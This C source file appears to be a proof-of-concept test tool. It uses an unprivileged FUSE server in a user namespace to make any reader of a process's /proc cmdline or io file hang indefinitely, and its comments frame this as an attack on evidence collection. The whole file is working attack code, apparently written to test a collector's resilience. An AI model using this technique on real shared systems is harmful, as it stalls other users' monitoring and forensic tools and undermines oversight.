/*
 * A tenant's process that makes whoever reads about it wait for ever, with nothing but what any account
 * has: a FUSE server in a user namespace of its own, /dev/fuse being open to all.
 *
 *     fuse-hang cmdline|io [DEVICE]     /dev/fuse, or a copy that all may open, as udev makes it
 *
 * cmdline: one thread unmaps a changed page of a file of the server, which never answers WRITE; another
 *          waits to change the memory map; who reads the arguments waits behind the two.
 * io:      the process calls execve with a file of the server open that is to be closed then; the
 *          server never answers FLUSH, and execve holds the lock under which the kernel tells
 *          /proc/PID/io, and newer ones /proc/PID/stat (6.18 does).
 *
 * Prints the pid of the process that hangs its readers, and a second line, "hangs PID", once it does: that
 * of the server, with whose end the attack is over. It must not achieve that anything of anybody else is missing from the evidence, nor that more of its own
 * is than those files of this process.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what) {
  perror(what);
  exit(1);
}

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) die(path);
  close(fd);
}

static void enter_namespaces(void) {
  char map[64];
  uid_t uid = getuid();
  gid_t gid = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) die("unshare");
  put("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  put("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", gid);
  put("/proc/self/gid_map", map);
}

static void reply(int fuse, uint64_t unique, int error, const void *body, size_t size) {
  static char out[65536];
  struct fuse_out_header head = {sizeof head + size, error, unique};
  memcpy(out, &head, sizeof head);
  memcpy(out + sizeof head, body, size);
  if (write(fuse, out, sizeof head + size) < 0 && errno != ENOENT) die("reply");
}

static struct fuse_attr attributes(uint64_t node) {
  struct fuse_attr attr = {.ino = node, .nlink = 1, .size = 4096, .blocks = 8, .blksize = 4096};
  attr.mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0666;
  return attr;
}

/* Threads of the process that wait for the kernel. */
static int waiting(pid_t pid) {
  char path[300], line[256];
  int count = 0;
  snprintf(path, sizeof path, "/proc/%d/task", pid);
  DIR *tasks = opendir(path);
  for (struct dirent *each; tasks != NULL && (each = readdir(tasks)) != NULL;) {
    snprintf(path, sizeof path, "/proc/%d/task/%s/status", pid, each->d_name);
    FILE *status = each->d_name[0] == '.' ? NULL : fopen(path, "r");
    if (status == NULL) continue;
    while (fgets(line, sizeof line, status) != NULL) count += strncmp(line, "State:\tD", 8) == 0;
    fclose(status);
  }
  if (tasks != NULL) closedir(tasks);
  return count;
}

/* Only now would a reader wait for ever. */
static void hangs(int threads) {
  while (waiting(getppid()) < threads) usleep(1000);
  printf("hangs %d\n", getpid());
  fflush(stdout);
}

/* Answers what is asked before the file can be used, and neither WRITE nor FLUSH. */
static void serve(int fuse) {
  static char in[1 << 20], page[4096];
  for (;;) {
    ssize_t got = read(fuse, in, sizeof in);
    if (got < 0 && (errno == EINTR || errno == ENOENT)) continue;
    if (got < 0) exit(0);
    struct fuse_in_header *head = (void *)in;
    uint64_t unique = head->unique;
    switch (head->opcode) {
    case FUSE_INIT: {
      struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 65536};
      reply(fuse, unique, 0, &init, sizeof init);
      break;
    }
    case FUSE_LOOKUP: {
      struct fuse_entry_out entry = {.nodeid = 2, .attr_valid = 3600, .entry_valid = 3600};
      entry.attr = attributes(2);
      reply(fuse, unique, 0, &entry, sizeof entry);
      break;
    }
    case FUSE_GETATTR: {
      struct fuse_attr_out attr = {.attr_valid = 3600, .attr = attributes(head->nodeid)};
      reply(fuse, unique, 0, &attr, sizeof attr);
      break;
    }
    case FUSE_OPEN: {
      struct fuse_open_out opened = {.fh = 1};
      reply(fuse, unique, 0, &opened, sizeof opened);
      break;
    }
    case FUSE_READ:
      reply(fuse, unique, 0, page, sizeof page);
      break;
    case FUSE_WRITE:
      hangs(2);
      break;
    case FUSE_FLUSH:
      hangs(0);
      break;
    case FUSE_FORGET:
    case FUSE_INTERRUPT:
      break;
    default:
      reply(fuse, unique, -ENOSYS, "", 0);
    }
  }
}

static char *mapped(int fd) {
  char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (page == MAP_FAILED) die("mmap");
  *page = 1;
  return page;
}

/* Holds the lock of its memory until the server has written the page. */
static void *unmap(void *page) {
  munmap(page, 4096);
  return NULL;
}

/* Waits for that lock to change something, and whoever would only read stands behind. */
static void *change(void *none) {
  for (;;) munmap(mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), 4096);
  return none;
}

int main(int count, char **words) {
  int by_io = count > 1 && strcmp(words[1], "io") == 0;
  if (count > 1 && strcmp(words[1], "wait") == 0) {
    pause();
    return 0;
  }
  char place[] = "/tmp/fuse-hang-XXXXXX", options[128], file[128];
  if (mkdtemp(place) == NULL) die("mkdtemp");
  enter_namespaces();
  int fuse = open(count > 2 ? words[2] : "/dev/fuse", O_RDWR | O_CLOEXEC);
  if (fuse < 0) die("/dev/fuse");
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
  if (mount("x", place, "fuse", MS_NOSUID | MS_NODEV, options) < 0) die("mount");
  pid_t server = fork();
  if (server == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    /* Whoever waits for it may not be killable, so it ends whatever happens. */
    alarm(300);
    serve(fuse);
  }
  close(fuse);
  snprintf(file, sizeof file, "%s/file", place);
  int fd = open(file, O_RDWR | O_CLOEXEC);
  if (fd < 0) die(file);
  char *page = by_io ? NULL : mapped(fd);
  printf("%d\n", getpid());
  fflush(stdout);
  if (by_io) execl("/proc/self/exe", "fuse-hang", "wait", NULL);
  pthread_t thread;
  if (pthread_create(&thread, NULL, unmap, page) != 0) die("pthread_create");
  if (pthread_create(&thread, NULL, change, NULL) != 0) die("pthread_create");
  for (;;) pause();
}
